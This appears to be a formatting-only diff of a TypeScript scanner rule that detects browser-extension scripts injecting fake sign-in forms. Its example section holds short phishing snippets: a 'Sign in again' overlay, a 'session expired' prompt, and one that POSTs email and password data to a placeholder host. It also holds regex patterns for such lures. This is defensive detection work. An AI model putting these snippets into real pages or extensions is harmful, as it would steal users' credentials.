@@ -8,8 +8,10 @@ import { few } from './usage.ts';
 
 const PASSWORD = /<input\b[^>]*\btype\s*=\s*\\?["']?password/i;
 /** What else a form for signing in holds. */
-const ACCOUNT = /<input\b[^>]*\b(type\s*=\s*\\?["']?(email|tel)|(name|id|placeholder|autocomplete)\s*=\s*\\?["']?(e-?mail|user|login|phone|account))/i;
-const PRESSING = /(session|login|sign-?in)\b[^<]{0,30}\bexpired|sign in again|log ?in again|verify (it'?s you|your (account|identity))|confirm your password|re-?enter your password|account (is )?(locked|suspended)/i;
+const ACCOUNT =
+  /<input\b[^>]*\b(type\s*=\s*\\?["']?(email|tel)|(name|id|placeholder|autocomplete)\s*=\s*\\?["']?(e-?mail|user|login|phone|account))/i;
+const PRESSING =
+  /(session|login|sign-?in)\b[^<]{0,30}\bexpired|sign in again|log ?in again|verify (it'?s you|your (account|identity))|confirm your password|re-?enter your password|account (is )?(locked|suspended)/i;
 
 export const signInFormInPage = defineRule({
   id: 'sign-in-form-in-page',
@@ -28,29 +30,62 @@ export const signInFormInPage = defineRule({
       const text = pattern(script, value);
       if (!PASSWORD.test(text)) continue;
       const pressing = PRESSING.test(text) || mentions(script, PRESSING);
-      if (!whole && !pressing && !(ACCOUNT.test(text) && sendingsOf(script).some((sending) => sending.kind !== 'storage'))) continue;
-      yield hit(value, whole || pressing ? { severity: 'high', message: whole ? 'The form takes the place of the whole page.' : 'It says that signing in again is needed.' } : { confidence: 'low' });
+      if (
+        !whole &&
+        !pressing &&
+        !(ACCOUNT.test(text) && sendingsOf(script).some((sending) => sending.kind !== 'storage'))
+      )
+        continue;
+      yield hit(
+        value,
+        whole || pressing
+          ? {
+              severity: 'high',
+              message: whole
+                ? 'The form takes the place of the whole page.'
+                : 'It says that signing in again is needed.',
+            }
+          : { confidence: 'low' },
+      );
       return;
     }
   }),
   examples: {
     bad: [
-      contentExample('document.addEventListener("visibilitychange", () => { document.body.innerHTML = \'<h1>Sign in again</h1><form id="f"><input name="email" type="email"><input name="pw" type="password"><button>Next</button></form>\'; });'),
-      contentExample('document.body.insertAdjacentHTML("beforeend", \'<div class="box"><p>Your session has expired</p><input type="password" id="p"><button>Continue</button></div>\');'),
-      contentExample('const box = document.createElement("div"); box.innerHTML = \'<input name="email"><input type="password" name="pw">\'; box.onsubmit = () => { fetch("https://x.example/s", { method: "POST", body: new FormData(box.firstChild) }); }; document.body.append(box);'),
+      contentExample(
+        'document.addEventListener("visibilitychange", () => { document.body.innerHTML = \'<h1>Sign in again</h1><form id="f"><input name="email" type="email"><input name="pw" type="password"><button>Next</button></form>\'; });',
+      ),
+      contentExample(
+        'document.body.insertAdjacentHTML("beforeend", \'<div class="box"><p>Your session has expired</p><input type="password" id="p"><button>Continue</button></div>\');',
+      ),
+      contentExample(
+        'const box = document.createElement("div"); box.innerHTML = \'<input name="email"><input type="password" name="pw">\'; box.onsubmit = () => { fetch("https://x.example/s", { method: "POST", body: new FormData(box.firstChild) }); }; document.body.append(box);',
+      ),
     ],
     good: [
-      contentExample('panel.innerHTML = \'<label>API key <input type="password" id="key"></label>\'; panel.onchange = () => chrome.storage.local.set({ key: panel.querySelector("#key").value });'),
+      contentExample(
+        'panel.innerHTML = \'<label>API key <input type="password" id="key"></label>\'; panel.onchange = () => chrome.storage.local.set({ key: panel.querySelector("#key").value });',
+      ),
       contentExample('document.querySelectorAll(\'input[type="password"]\').forEach((f) => { f.type = "text"; });'),
-      { files: { 'manifest.json': '{"manifest_version": 3, "name": "Example", "version": "1.0", "action": {"default_popup": "p.html"}}', 'p.html': '<div id="a"></div><script src="p.js"></script>', 'p.js': 'a.innerHTML = \'<input name="email"><input type="password">\'; a.onsubmit = () => fetch("https://api.example.com/login", { method: "POST" });' } },
+      {
+        files: {
+          'manifest.json':
+            '{"manifest_version": 3, "name": "Example", "version": "1.0", "action": {"default_popup": "p.html"}}',
+          'p.html': '<div id="a"></div><script src="p.js"></script>',
+          'p.js':
+            'a.innerHTML = \'<input name="email"><input type="password">\'; a.onsubmit = () => fetch("https://api.example.com/login", { method: "POST" });',
+        },
+      },
     ],
   },
 });
 
 /** Markup that is put into the page, and whether it takes the page's place. */
 function* markups(script: ScriptFacts): Generator<{ value: number; whole: boolean }> {
-  for (const write of writesOf(script, 'innerHTML', 'outerHTML', 'srcdoc')) yield { value: write.value, whole: /^document\.(body|documentElement)$/.test(apiPath(script, write.object) ?? '') };
+  for (const write of writesOf(script, 'innerHTML', 'outerHTML', 'srcdoc'))
+    yield { value: write.value, whole: /^document\.(body|documentElement)$/.test(apiPath(script, write.object) ?? '') };
   for (const call of callsNamed(script, 'insertAdjacentHTML')) yield { value: call.args[1] ?? 0, whole: false };
-  for (const call of callsNamed(script, 'append', 'prepend', 'html', 'createContextualFragment', 'parseFromString')) yield { value: call.args[0] ?? 0, whole: false };
+  for (const call of callsNamed(script, 'append', 'prepend', 'html', 'createContextualFragment', 'parseFromString'))
+    yield { value: call.args[0] ?? 0, whole: false };
   for (const call of callsOf(script, 'document.write')) yield { value: call.args[0] ?? 0, whole: true };
 }
